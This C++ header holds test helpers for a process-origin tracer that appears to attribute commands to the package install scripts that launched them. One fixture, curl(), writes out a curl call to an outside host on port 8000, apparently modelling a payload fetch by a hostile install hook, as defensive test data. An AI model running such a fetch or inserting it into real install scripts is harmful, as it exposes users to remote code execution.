// Chains of programs for the tests of origin_of.
#pragma once

#include <ostream>
#include <string>
#include <utility>
#include <vector>

#include "event/event.h"
#include "identity/origin.h"

namespace nslookout::identity {

using Environment = std::vector<std::pair<std::string, std::string>>;

// What a process is called by and where it was started; its executable is the first argument if that is a path.
inline ProgramFacts program(std::vector<std::string> command_line, std::string cwd, Environment environment = {}) {
  ProgramFacts facts;
  if (!command_line.empty() && command_line.front().starts_with('/')) facts.executable = command_line.front();
  facts.command_line = std::move(command_line);
  facts.cwd = std::move(cwd);
  facts.environment = std::move(environment);
  return facts;
}

inline ProgramFacts curl(std::string cwd, Environment environment = {}) {
  return program({"/usr/bin/curl", "http://sfrclak.com:8000/6202033"}, std::move(cwd), std::move(environment));
}

inline Environment operator+(Environment left, const Environment& right) {
  left.insert(left.end(), right.begin(), right.end());
  return left;
}

// In one line, for the tables: "manager name version script path", '-' for what is empty.
inline std::string text_of(const std::optional<event::Package>& package) {
  if (!package) return "none";
  const auto shown = [](const std::string& value) { return value.empty() ? std::string("-") : value; };
  return shown(package->manager) + ' ' + shown(package->name) + ' ' + shown(package->version) + ' ' +
         shown(package->script) + ' ' + shown(package->path);
}

inline std::string package_text(const std::vector<ProgramFacts>& nearest_first) {
  const auto origin = origin_of(nearest_first);
  return text_of(origin ? origin->package : std::nullopt);
}

}  // namespace nslookout::identity
